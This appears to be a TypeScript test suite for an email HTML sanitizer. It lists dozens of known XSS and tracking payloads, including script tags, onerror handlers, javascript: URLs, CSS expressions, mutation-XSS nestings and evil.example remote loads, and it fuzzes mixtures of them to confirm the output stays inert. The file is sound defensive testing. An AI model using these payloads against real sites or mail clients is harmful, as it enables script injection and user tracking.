import fc from 'fast-check'
import t from 'tap'
import { sanitize } from '../../../src/emails/parse/sanitize.ts'

/** Ways into a page that were found over the years (OWASP's cheat sheet and advisories of sanitisers), and some of our own. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror = "alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=x>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img src="//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img data-remote-src="javascript:alert(1)">',
  '<picture><source srcset="https://evil.example/x"><img></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" target="_self" rel="opener" onclick="alert(1)">x</a>',
  '<a href="https://ok.example/?a=&quot;onmouseover=alert(1)">x</a>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<a href="#top">x</a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background-image:u\\72l(https://evil.example/x)">x</div>',
  '<div style="background:image-set(\'https://evil.example/x\' 1x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="margin-top:-1000px;z-index:99">x</div>',
  '<div style="color:red;}@import url(https://evil.example)">x</div>',
  '<div style=\'font-family:"x;url(https://evil.example)"\'>x</div>',
  '<div style="color:red/**/;ba/**/ckground:url(x)">x</div>',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1) background="https://evil.example/x">x</body>',
  '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x</td></tr></table>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>',
  '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<video src="https://evil.example/x" poster="https://evil.example/y" onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><image href="https://evil.example/x"/><animate attributeName=href values=javascript:alert(1)></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<<img src=x onerror=alert(1)//<',
  '<img src=x onerror=alert(1)//',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p id="document" class="admin" name="cookie">x</p>',
  '<p dir="rtl&quot; onclick=&quot;alert(1)">x</p>',
  '<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>',
  '<dialog open><input autofocus onfocus=alert(1)></dialog>',
  '<font color="red" onmouseover="alert(1)" face="&quot;><script>alert(1)</script>">x</font>',
]

const TAG = /<\/?([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*) ?\/?>/g
const ATTRIBUTE = / ([a-z-]+)="([^"]*)"/g
const HARMLESS = new Set(
  'style dir lang title alt width height align valign bgcolor border cellpadding cellspacing color face size start type span colspan rowspan scope'.split(
    ' ',
  ),
)
const FORBIDDEN_TAGS =
  /^(?:script|style|link|meta|base|iframe|frame|object|embed|form|input|button|select|textarea|svg|math|video|audio|source|picture|template|noscript|body|html|head|title)$/

/** Why the HTML is not inert, or undefined. All that is a tag must be one of those that are known to be safe, whole and well-formed. */
function fault(html: string): string | undefined {
  if (html.replace(TAG, '').includes('<')) return 'something begins like a tag and is none'
  for (const [, tag = '', attributes = ''] of html.matchAll(TAG)) {
    if (FORBIDDEN_TAGS.test(tag)) return `<${tag}>`
    for (const [, name = '', escaped = ''] of attributes.matchAll(ATTRIBUTE)) {
      const value = escaped.replaceAll('&amp;', '&')
      const safe =
        name === 'href'
          ? /^(?:https?:\/\/|mailto:)/i.test(value) &&
            attributes.includes('rel="noopener noreferrer nofollow"') &&
            attributes.includes('target="_blank"')
          : name === 'src'
            ? /^cid:|^data:image\/(?:png|gif|jpe?g|webp);base64,/i.test(value)
            : name === 'data-remote-src'
              ? /^https?:\/\//i.test(value)
              : name === 'style'
                ? !/url|expression|import|image|position|binding|behavior|[\\@{}<]|margin[\w-]*:[^;]*-\d/i.test(value)
                : name === 'rel' || name === 'target' || HARMLESS.has(name)
      if (!safe) return `${tag} ${name}="${value}"`
    }
  }
  return undefined
}

for (const vector of vectors) {
  t.test(`nothing acts or loads of ${JSON.stringify(vector)}`, (t) => {
    const html = sanitize(vector)
    t.equal(fault(html), undefined, html)
    t.end()
  })
}

t.test('nothing acts or loads of any mixture of them, and doing it again changes nothing', (t) => {
  const piece = fc.oneof(
    fc.constantFrom(...vectors),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '<!--',
      '-->',
      '</',
      '/>',
      '<p ',
      ' style="',
      '<a href=',
      '&#x',
      'javascript:',
      '\0',
      '<b>',
      '</b>',
      ' on',
      '=',
      '\n',
    ),
    fc.tuple(fc.constantFrom(...vectors), fc.nat(60), fc.nat(60)).map(([vector, start, length]) => vector.slice(start, start + length)),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      const html = sanitize(pieces.join(''))
      const why = fault(html)
      if (why) throw new Error(`${why} in ${html}`)
      const again = sanitize(html)
      if (fault(again)) throw new Error(`after the second time: ${again}`)
    }),
    { numRuns: 3000 },
  )
  t.end()
})

const kept: [string, string, string][] = [
  [
    'a link',
    '<a href="https://ok.example/?a=1&amp;b=2" title="t">x</a>',
    '<a title="t" href="https://ok.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  ],
  [
    'a mail link',
    '<a href="mailto:ada@people.example">x</a>',
    '<a href="mailto:ada@people.example" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  ],
  ['a picture among the attachments', '<img src="cid:logo@x" alt="Logo">', '<img alt="Logo" src="cid:logo@x" />'],
  ['a picture in the text', '<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src="data:image/png;base64,iVBORw0KGgo=" />'],
  [
    'the address of a remote picture',
    '<img src="https://cdn.example/a.png" alt="A">',
    '<img alt="A" data-remote-src="https://cdn.example/a.png" />',
  ],
  [
    'styles that only style',
    '<p style="color: #333; Font-Family: Arial, sans-serif; margin: 0 0 1em">x</p>',
    '<p style="color:#333;font-family:Arial, sans-serif;margin:0 0 1em">x</p>',
  ],
  [
    'layout of tables',
    '<table width="600" cellpadding="0"><tr><td align="center" bgcolor="#fff">x</td></tr></table>',
    '<table width="600" cellpadding="0"><tr><td align="center" bgcolor="#fff">x</td></tr></table>',
  ],
  ['what stands in elements that are taken out', '<html><head><meta charset=utf-8></head><body><o:p>text</o:p></body></html>', 'text'],
  ['text that looks like HTML', '1 &lt; 2 &amp;&amp; 3 &gt; 2', '1 &lt; 2 &amp;&amp; 3 &gt; 2'],
]

for (const [what, html, expected] of kept) {
  t.test(`${what} is kept`, (t) => {
    t.equal(sanitize(html), expected)
    t.end()
  })
}
